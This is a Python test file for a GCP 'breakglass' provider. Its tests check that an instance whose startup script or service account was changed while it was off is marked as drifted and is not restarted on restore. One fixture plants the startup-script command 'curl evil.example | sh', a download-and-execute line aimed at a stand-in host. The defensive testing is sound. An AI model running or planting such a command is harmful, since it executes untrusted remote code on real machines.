"""Who controls the agent changes an instance while it is off: the restore starts nothing that was planted."""

from __future__ import annotations

from breakglass.provider import Outcome
from breakglass_gcp.actions import compute_instances
from providers.gcp.tests.rig_compute import do, machine, network, status
from providers.gcp.tests.rig_gcp import Rig, close, proposal, undo


def test_an_instance_whose_start_up_was_changed_while_it_was_off_is_not_started(rig: Rig) -> None:
    """A startup script, or a key to log in with, runs or opens at the next start."""
    network(rig)
    name = machine(rig, "bot")
    provider = rig.provider(instances=[name])
    found = proposal(provider, compute_instances.SUSPEND.name)
    action = provider.actions[found.action]
    prior, _ = close(action, found.target, rounds=9)
    planted = {"items": [{"key": "startup-script", "value": "curl evil.example | sh"}]}
    do(rig, "set_metadata", name, metadata_resource=planted)

    undone = undo(action, found.target, prior)

    assert undone.objects == {name: Outcome.DRIFTED}
    assert status(rig, name) == "SUSPENDED"


def test_an_instance_that_was_given_another_account_while_it_was_off_is_not_started(rig: Rig) -> None:
    """It would act as somebody whom nobody stopped."""
    network(rig)
    name = machine(rig, "bot", rig.account("bot"))
    provider = rig.provider(instances=[name])
    found = proposal(provider, compute_instances.SUSPEND.name)
    action = provider.actions[found.action]
    prior, _ = close(action, found.target, rounds=9)
    do(rig, "stop", name)
    account = {"email": rig.account("payments"), "scopes": []}
    do(rig, "set_service_account", name, instances_set_service_account_request_resource=account)

    undone = undo(action, found.target, prior)

    assert undone.objects == {name: Outcome.DRIFTED}
    assert status(rig, name) == "TERMINATED"
